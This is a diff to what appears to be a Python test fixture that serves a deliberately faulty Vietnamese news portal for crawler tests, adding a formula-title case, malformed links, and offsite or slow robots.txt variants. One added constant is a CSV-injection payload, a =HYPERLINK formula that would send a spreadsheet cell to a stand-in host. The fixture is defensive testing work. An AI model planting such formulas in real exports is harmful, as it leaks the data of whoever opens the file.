@@ -41,6 +41,7 @@ CASES = {
     "/tin-tuc/html-hong-1005.html": "emit",
     "/tin-tuc/loi-503-roi-duoc-1006.html": "emit",
     "/tin-tuc/may-chu-cham-1007.html": "emit",
+    "/tin-tuc/tieu-de-cong-thuc-1008.html": "emit",
     "/tin-tuc/trong-rong-1010.html": "empty",
     "/tin-tuc/khong-co-noi-dung-1011.html": "too_little_text",
     "/tin-tuc/mojibake-1012.html": "bad_encoding",
@@ -57,6 +58,14 @@ CASES = {
     "/tin-tuc/vong-lap-chuyen-huong-1023.html": "redirect_loop",
     "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": "offsite",
 }
+# A title a spreadsheet would run as a formula (CSV injection), sending a cell away.
+FORMULA_TITLE = '=HYPERLINK("http://thu-nghiem.invalid/?d="&B2,"Xem chi tiết")'
+# Links no URL parser takes: a port out of range, an unclosed IPv6 host. Served
+# at /tin-tuc/lien-ket-hong-1009.html, not linked from the home page
+# (tests/test_edge_cases.py crawls it alone).
+BROKEN_LINKS = ("<p>Xem <a href='http://127.0.0.1:99999/tin-tuc/a-1.html'>chi tiết</a>, "
+                "<a href='http://[::1:8/tin-tuc/b-2.html'>tại đây</a> và "
+                "<a href='https://[bad host]/c-3.html'>đây</a>.</p>")
 # Links that are the same article as binh-thuong-1001 under other URLs.
 ALIASES = ["/tin-tuc/binh-thuong-1001.html?utm_source=zalo&utm_medium=share",
            "/tin-tuc/binh-thuong-1001.html;jsessionid=8F2A0C1B",
@@ -69,8 +78,10 @@ class FaultyPortal:
     """One misbehaving portal (and a neighbour host to redirect off to)."""
 
     def __init__(self, robots: str = "ok"):
-        self.robots = robots  # ok | missing | broken | forbid_all
+        self.robots = robots  # ok | missing | broken | forbid_all | offsite (a redirect to the neighbour)
+        #                      | slow (Crawl-delay: 3600)
         self.hits: Counter[str] = Counter()
+        self.times: list[tuple[float, str]] = []  # (time.monotonic(), path) of every request
         self.neighbour_hits = 0
         self._servers: list[ThreadingHTTPServer] = []
 
@@ -136,6 +147,7 @@ class FaultyPortal:
             def do_GET(self):
                 path = self.path
                 portal.hits[path] += 1
+                portal.times.append((time.monotonic(), path))
                 route = ROUTES.get(path.split("?")[0].split(";")[0])
                 if path == "/robots.txt":
                     return self.robots()
@@ -153,10 +165,14 @@ class FaultyPortal:
             def robots(self):
                 if portal.robots == "missing":
                     return self.send(404, b"not found")
+                if portal.robots == "offsite":
+                    return self.send(301, b"", headers={"Location": portal.neighbour_url + "/robots.txt"})
                 if portal.robots == "broken":
                     return self.send(200, b"\x00\xffUser-agent *\nDisallow /admin\n<html>", "text/plain")
                 rules = "User-agent: *\nDisallow: /\n" if portal.robots == "forbid_all" else \
                     "User-agent: *\nDisallow: /quan-tri/\n"
+                if portal.robots == "slow":
+                    rules += "Crawl-delay: 3600\n"
                 return self.send(200, rules.encode(), "text/plain; charset=utf-8")
 
         return Handler
@@ -243,6 +259,9 @@ ROUTES = {
     "/tin-tuc/html-hong-1005.html": _broken_html,
     "/tin-tuc/loi-503-roi-duoc-1006.html": _flaky,
     "/tin-tuc/may-chu-cham-1007.html": _slow,
+    "/tin-tuc/tieu-de-cong-thuc-1008.html": _normal(FORMULA_TITLE),
+    "/tin-tuc/lien-ket-hong-1009.html": lambda h, p: h.send(200, article(
+        "Công khai kết quả giải quyết hồ sơ", extra=BROKEN_LINKS).encode("utf-8")),
     "/tin-tuc/trong-rong-1010.html": lambda h, p: h.send(200, b""),
     "/tin-tuc/khong-co-noi-dung-1011.html": lambda h, p: h.send(
         200, article("Ảnh hoạt động", body="Ảnh: Minh Anh").encode("utf-8")),
